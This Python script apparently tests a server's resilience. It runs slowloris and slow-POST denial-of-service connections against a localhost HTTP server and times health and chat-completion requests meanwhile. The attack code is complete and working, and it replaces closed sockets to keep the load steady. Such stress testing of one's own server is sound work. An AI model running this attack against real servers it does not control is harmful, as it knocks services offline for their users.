#!/usr/bin/python3
"""Slow-client attack on an HTTP server, with probes that time real requests meanwhile.

usage: slowloris.py PORT SECONDS HEAD_SOCKETS BODY_SOCKETS [--dribble S] [--probe-every S]
                    [--chat-body JSON] [--probe-timeout S]

Attackers (one thread drives them all):
  head: send "GET /health HTTP/1.1\\r\\nHost: x\\r\\n", then one more header line every
        --dribble seconds, never the blank line that ends the head (slowloris);
  body: send a complete POST head for /v1/chat/completions promising a body (every other
        one Content-Length: 100000, the rest chunked), then 8 bytes of it every --dribble
        seconds (slow POST).
A socket the server closes is counted (with its lifetime and the status line it got, if
any) and replaced at once, so the attack keeps its size the whole time.
Probes (another thread): every --probe-every seconds, GET /health and POST the chat body on
fresh connections, timing each from connect to the last byte of the answer.
Prints one JSON line: per-probe latencies, timeouts, errors, how many attacker sockets were
open at once (min over the run after ramp-up and max), and how long the server let the
attackers live.
"""
import argparse
import errno
import http.client
import json
import socket
import statistics
import threading
import time

ap = argparse.ArgumentParser()
ap.add_argument("port", type=int)
ap.add_argument("seconds", type=float)
ap.add_argument("head", type=int)
ap.add_argument("body", type=int)
ap.add_argument("--dribble", type=float, default=1.0)
ap.add_argument("--probe-every", type=float, default=0.5)
ap.add_argument("--probe-timeout", type=float, default=10.0)
ap.add_argument("--chat-body", default="")
args = ap.parse_args()

stop = threading.Event()
lock = threading.Lock()
stats = {"closed_by_server": 0, "lifetimes": [], "statuses": {}, "connect_failures": 0, "open_samples": []}


class Attacker:
    def __init__(self, kind, i):
        self.kind, self.i, self.sock, self.started, self.lines, self.answer, self.connected = kind, i, None, 0.0, 0, b"", False

    def connect(self):
        # non-blocking connect: a SYN the server's full accept queue drops is retried by the
        # kernel while the other attackers carry on; the head goes out once it is connected
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        err = s.connect_ex(("127.0.0.1", args.port))
        if err not in (0, errno.EINPROGRESS):
            with lock:
                stats["connect_failures"] += 1
            s.close()
            self.sock = None
            return
        self.sock, self.started, self.lines, self.answer, self.connected = s, time.monotonic(), 0, b"", False

    def first_send(self):
        if self.kind == "head":
            return self.send(b"GET /health HTTP/1.1\r\nHost: x\r\n")
        chunked = self.i % 2 == 1
        framing = b"Transfer-Encoding: chunked\r\n" if chunked else b"Content-Length: 100000\r\n"
        return self.send(b"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n" +
                         framing + b"\r\n")

    def send(self, data):
        try:
            self.sock.send(data)
            return True
        except (BlockingIOError, InterruptedError):
            return True  # buffers full: the server is not reading; keep the socket
        except OSError:
            self.closed(b"")
            return False

    def closed(self, answer):
        with lock:
            stats["closed_by_server"] += 1
            stats["lifetimes"].append(time.monotonic() - self.started)
            status = answer.split(b" ", 2)[1].decode("latin-1") if answer.startswith(b"HTTP/") else "none"
            stats["statuses"][status] = stats["statuses"].get(status, 0) + 1
        try:
            self.sock.close()
        except OSError:
            pass
        self.sock = None

    def poll_closed(self):
        """Reads what the server sent; True when the server closed the connection."""
        try:
            data = self.sock.recv(65536)
        except (BlockingIOError, InterruptedError):
            return False
        except OSError:
            self.closed(b"")
            return True
        if data:
            # an answer (e.g. 408/413/431): read on until the server closes
            self.answer += data
            return False
        self.closed(self.answer)
        return True

    def tick(self):
        if self.sock is None:
            self.connect()
            return
        if not self.connected:
            err = self.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
            if err:
                self.closed(b"")
                self.connect()
                return
            try:
                self.sock.getpeername()
            except OSError:
                return  # still connecting
            self.connected = True
            self.first_send()
            return
        if self.poll_closed():
            self.connect()
            return
        self.lines += 1
        if self.kind == "head":
            self.send(b"X-Slow-%d: %d\r\n" % (self.lines, self.i))
        elif self.i % 2 == 1:
            self.send(b"8\r\n" + b"a" * 8 + b"\r\n")
        else:
            self.send(b"a" * 8)


def attack():
    attackers = [Attacker("head", i) for i in range(args.head)] + [Attacker("body", i) for i in range(args.body)]
    for a in attackers:
        a.connect()
    while not stop.is_set():
        t0 = time.monotonic()
        for a in attackers:
            a.tick()
        with lock:
            stats["open_samples"].append(sum(1 for a in attackers if a.sock is not None and a.connected))
        stop.wait(max(0.0, args.dribble - (time.monotonic() - t0)))
    for a in attackers:
        if a.sock is not None:
            a.sock.close()


probes = {"health": [], "chat": []}
failures = {"health": [], "chat": []}


def probe_once(kind):
    t0 = time.monotonic()
    c = http.client.HTTPConnection("127.0.0.1", args.port, timeout=args.probe_timeout)
    try:
        if kind == "health":
            c.request("GET", "/health")
        else:
            c.request("POST", "/v1/chat/completions", args.chat_body, {"Content-Type": "application/json"})
        r = c.getresponse()
        body = r.read()
        dt = time.monotonic() - t0
        if r.status != 200:
            failures[kind].append(f"{r.status} after {dt:.3f} s: {body[:120]!r}")
        else:
            probes[kind].append(dt)
    except (OSError, http.client.HTTPException) as e:
        failures[kind].append(f"{type(e).__name__} after {time.monotonic() - t0:.3f} s")
    finally:
        c.close()


def probe():
    stop.wait(min(2.0, args.seconds / 4))  # let the attack ramp up first
    while not stop.is_set():
        t0 = time.monotonic()
        probe_once("health")
        if args.chat_body:
            probe_once("chat")
        stop.wait(max(0.0, args.probe_every - (time.monotonic() - t0)))


ta, tp = threading.Thread(target=attack), threading.Thread(target=probe)
ta.start(), tp.start()
time.sleep(args.seconds)
stop.set()
ta.join(), tp.join()


def summary(xs):
    if not xs:
        return None
    xs = sorted(xs)
    return {"n": len(xs), "median": round(statistics.median(xs), 4), "max": round(xs[-1], 4),
            "p90": round(xs[int(0.9 * (len(xs) - 1))], 4)}


samples = stats["open_samples"][2:] or stats["open_samples"]
print(json.dumps({
    "health": summary(probes["health"]), "chat": summary(probes["chat"]),
    "health_failures": failures["health"], "chat_failures": failures["chat"],
    "attackers": args.head + args.body, "open_min": min(samples) if samples else 0,
    "open_max": max(samples) if samples else 0, "closed_by_server": stats["closed_by_server"],
    "lifetime": summary(stats["lifetimes"]), "statuses": stats["statuses"],
    "connect_failures": stats["connect_failures"]}))
